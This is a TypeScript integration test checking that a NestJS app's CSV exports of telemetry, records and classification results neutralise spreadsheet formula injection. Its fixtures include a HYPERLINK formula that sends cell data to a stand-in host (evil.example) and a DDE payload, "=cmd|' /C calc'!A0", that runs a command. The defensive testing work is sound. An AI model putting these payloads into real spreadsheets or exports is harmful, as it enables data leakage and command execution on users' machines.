import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { INestApplicationContext } from '@nestjs/common';
import { TelemetryWriter } from '../../../libs/domain/src';
import { startTestApi, TestApi } from '../../support/test-app';
import { startTestWorker } from '../../support/test-worker';
import { createWorkspaceCrew, WorkspaceCrew } from '../../support/workspace-factories';

/**
 * Every CSV export neutralises text a spreadsheet would run as a formula (OWASP: a leading `'` and
 * quotes) and keeps numbers, negative ones included, as numbers.
 */
describe('CSV exports against formula injection', () => {
  let api: TestApi;
  let worker: INestApplicationContext;
  let crew: WorkspaceCrew;
  let storageDir: string;
  const base = () => `/api/v1/workspaces/${crew.workspaceId}`;
  const EVIL_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"click")';

  beforeAll(async () => {
    storageDir = mkdtempSync(join(tmpdir(), 'labwire-csv-'));
    const env = { STORAGE_URL: `file://${storageDir}` };
    api = await startTestApi(env);
    worker = await startTestWorker(api, env);
    crew = await createWorkspaceCrew(api);
  });
  afterAll(async () => {
    await worker?.close();
    await api?.close();
    rmSync(storageDir, { recursive: true, force: true });
  });

  const finished = async (jobId: string) => {
    const deadline = Date.now() + 30_000;
    for (;;) {
      const res = await api.request('GET', `${base()}/jobs/${jobId}`, { token: crew.viewer.token });
      if (['succeeded', 'failed', 'cancelled'].includes(res.body.status)) return res.body;
      if (Date.now() > deadline) throw new Error(`job ${jobId} still ${res.body.status}`);
      await new Promise((r) => setTimeout(r, 50));
    }
  };

  it('telemetry exports (one instrument and the workspace): metric names and tags neutralised, values numbers', async () => {
    const inst = await api.request('POST', `${base()}/instruments`, {
      token: crew.editor.token,
      body: { name: 'Probe', serialNumber: 'CSV-1' },
    });
    const instrumentId = inst.body.id as string;
    await api.app.get(TelemetryWriter).store([
      { time: new Date('2026-11-01T00:00:00Z'), instrumentId, metric: '=1+2', value: -3.5 },
      { time: new Date('2026-11-01T00:01:00Z'), instrumentId, metric: '@SUM(A1:A9)', value: 2 },
      { time: new Date('2026-11-01T00:02:00Z'), instrumentId, metric: '+cmd', value: -0.25, tags: { k: '=x' } },
      { time: new Date('2026-11-01T00:03:00Z'), instrumentId, metric: 'temp', value: -1 },
    ]);
    const range = { from: '2026-11-01T00:00:00Z', to: '2026-11-02T00:00:00Z' };
    const one = await api.request('GET', `${base()}/instruments/${instrumentId}/telemetry/export`, {
      token: crew.viewer.token,
      query: range,
    });
    const all = await api.request('GET', `${base()}/telemetry/export`, {
      token: crew.viewer.token,
      query: { ...range, instrumentIds: instrumentId },
    });
    for (const res of [one, all]) {
      expect(res.status).toBe(200);
      expect(String(res.body).trimEnd().split('\n')).toEqual([
        'time,instrument_id,metric,value,tags',
        `2026-11-01T00:00:00.000Z,${instrumentId},"'=1+2",-3.5,`,
        `2026-11-01T00:01:00.000Z,${instrumentId},"'@SUM(A1:A9)",2,`,
        `2026-11-01T00:02:00.000Z,${instrumentId},"'+cmd",-0.25,"{""k"":""=x""}"`,
        `2026-11-01T00:03:00.000Z,${instrumentId},temp,-1,`,
      ]);
    }
  });

  it('records and classification results: record text and labels neutralised, numbers kept', async () => {
    const lines = [EVIL_TEXT, '-2+3 calc', '@SUM(1) plain', 'plain calc'];
    const source = await api.request('POST', `${base()}/datasources`, {
      token: crew.editor.token,
      body: { type: 'text', text: lines.join('\n'), name: 'evil lines' },
    });
    expect(source.status).toBe(201);
    expect((await finished(source.body.lastJobId)).status).toBe('succeeded');

    const records = await api.request('GET', `${base()}/records/export`, {
      token: crew.viewer.token,
      query: { format: 'csv' },
    });
    expect(records.status).toBe(200);
    const recordLines = String(records.body).trimEnd().split('\r\n');
    expect(recordLines[0]).toBe('id,datasourceId,position,text,metadata,contentHash,createdAt');
    expect(recordLines).toHaveLength(5);
    expect(recordLines[1]).toContain(`,1,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
    expect(recordLines[2]).toContain(`,2,"'-2+3 calc",`);
    expect(recordLines[3]).toContain(`,3,"'@SUM(1) plain",`);
    expect(recordLines[4]).toContain(`,4,plain calc,`);

    const scheme = await api.request('POST', `${base()}/classification-schemes`, {
      token: crew.editor.token,
      body: {
        name: 'Evil labels',
        mode: 'single',
        labels: [
          { name: "=cmd|' /C calc'!A0", rules: [{ type: 'keyword', pattern: 'calc', weight: 5 }] },
          { name: 'plain', rules: [{ type: 'keyword', pattern: 'plain', weight: 5 }] },
        ],
      },
    });
    expect(scheme.status).toBe(201);
    const job = await api.request('POST', `${base()}/classification-jobs`, {
      token: crew.editor.token,
      body: { schemeId: scheme.body.id, datasourceIds: [source.body.id] },
    });
    expect(job.status).toBe(202);
    expect((await finished(job.body.id)).status).toBe('succeeded');
    const results = await api.request('GET', `${base()}/classification-jobs/${job.body.id}/results/export`, {
      token: crew.viewer.token,
    });
    expect(results.status).toBe(200);
    const rows = String(results.body).trimEnd().split('\r\n');
    expect(rows).toHaveLength(5);
    const calc = rows.find((r) => r.includes('-2+3 calc'));
    // the label, then the confidence as a plain number, then the text, each cell neutralised
    expect(calc).toMatch(/,2,"'=cmd\|' \/C calc'!A0",(0|1|0\.\d+),1,/);
    expect(calc).toMatch(/,"'-2\+3 calc"$/);
    expect(rows.find((r) => r.includes('HYPERLINK'))).toMatch(/,"'=HYPERLINK\(""http:\/\/evil\.example/);
    expect(rows.find((r) => r.endsWith(',plain calc'))).toBeDefined();
  });
});
